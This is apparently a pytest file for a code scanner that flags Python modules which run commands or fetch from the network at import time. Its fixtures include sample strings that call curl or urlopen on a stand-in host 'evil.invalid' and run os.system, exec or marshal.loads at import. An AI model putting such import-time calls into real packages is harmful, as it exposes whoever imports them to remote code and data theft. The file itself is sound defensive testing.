"""What runs while a module is imported, and what only looks like it."""

from __future__ import annotations

import pytest

from lockflight.core.findings import Severity
from lockflight.core.words import Role
from lockflight.scan.code import CodeCheck
from tests.scan.subjects import judge

CLASS = "class M:\n    pass\n"
BAD = {
    "system": "import os\n" + CLASS + "os.system('true')\n",
    "alias": "from os import system as s\n" + CLASS + "s('true')\n",
    "popen": "import subprocess\nsubprocess.Popen(['curl', 'http://evil.invalid'])\n",
    "guarded import": "try:\n    import x\nexcept ImportError:\n    import os\n    os.system('pip install x')\n",
    "class body": "import os\nclass M:\n    x = os.popen('true').read()\n",
    "decorator": "import os\n@os.system('true')\ndef f():\n    pass\n",
    "default": "import os\ndef f(x=os.system('true')):\n    pass\n",
    "called function": "import os\ndef f():\n    os.system('true')\nf()\n",
    "called through another": "import os\ndef f():\n    os.system('true')\ndef g():\n    f()\ng()\n",
    "other branch": "import os\nif __name__ == '__main__':\n    pass\nelse:\n    os.system('true')\n",
    "by __import__": "__import__('os').system('true')\n",
    "exec": "exec('import os')\n",
    "network": "import urllib.request\nurllib.request.urlopen('http://evil.invalid')\n",
}
FINE = {
    "function": "import os\ndef f():\n    os.system('true')\n",
    "method": "import subprocess\nclass M:\n    def f(self):\n        subprocess.run(['true'])\n",
    "lambda": "import os\nf = lambda: os.system('true')\n",
    "main": "import os\nif __name__ == '__main__':\n    os.system('true')\n",
    "main, turned": "import os\nif '__main__' == __name__:\n    os.system('true')\n",
    "another system": "class os:\n    def system(x):\n        pass\nos.system('true')\n",
    "eval of a model": "import torch\nclass M(torch.nn.Module):\n    pass\nm = M()\nm.eval()\n",
}


def found(source, name="modeling_x.py"):
    result = judge(CodeCheck(), {name: (Role.CODE, source.encode())})
    return [f for f in result.findings if f.code == "LF2436"]


@pytest.mark.parametrize("name", BAD)
def test_what_runs_at_import(name):
    (finding,) = found(BAD[name])
    assert finding.severity is Severity.HIGH


@pytest.mark.parametrize("name", FINE)
def test_what_runs_when_it_is_called(name):
    assert found(FINE[name]) == []


def test_a_script_is_started_for_what_it_does():
    script = "import subprocess\nsubprocess.run(['dvc', 'pull'])\n"
    assert found(script, "fetch.py") == []
    assert [f.severity for f in found(script + CLASS, "anything.py")] == [Severity.HIGH]
    assert found(script + CLASS, "setup.py") == []


@pytest.mark.parametrize("name", ["utils.py", "helper.py", "sitecustomize.py", "usercustomize.py", "ops.py"])
def test_what_a_model_or_python_imports_in_turn(name):
    script = "import subprocess\nsubprocess.run(['dvc', 'pull'])\n"
    assert [f.severity for f in found(script, name)] == [Severity.HIGH]
    assert found("import subprocess\ndef f():\n    subprocess.run(['dvc', 'pull'])\n", name) == []


@pytest.mark.parametrize("name", ["setup.py", "conftest.py", "noxfile.py"])
def test_a_tool_starts_programs_and_takes_nothing_in_from_elsewhere(name):
    build = "import subprocess\nsubprocess.run(['git', 'describe'])\nexec(open('version.py').read())\n"
    assert found(build, name) == []
    fetch = "import urllib.request\nurllib.request.urlopen('http://evil.invalid')\n"
    assert [f.severity for f in found(fetch, name)] == [Severity.HIGH]
    assert [f.severity for f in found("import marshal\nmarshal.loads(b'x')\n", name)] == [Severity.HIGH]
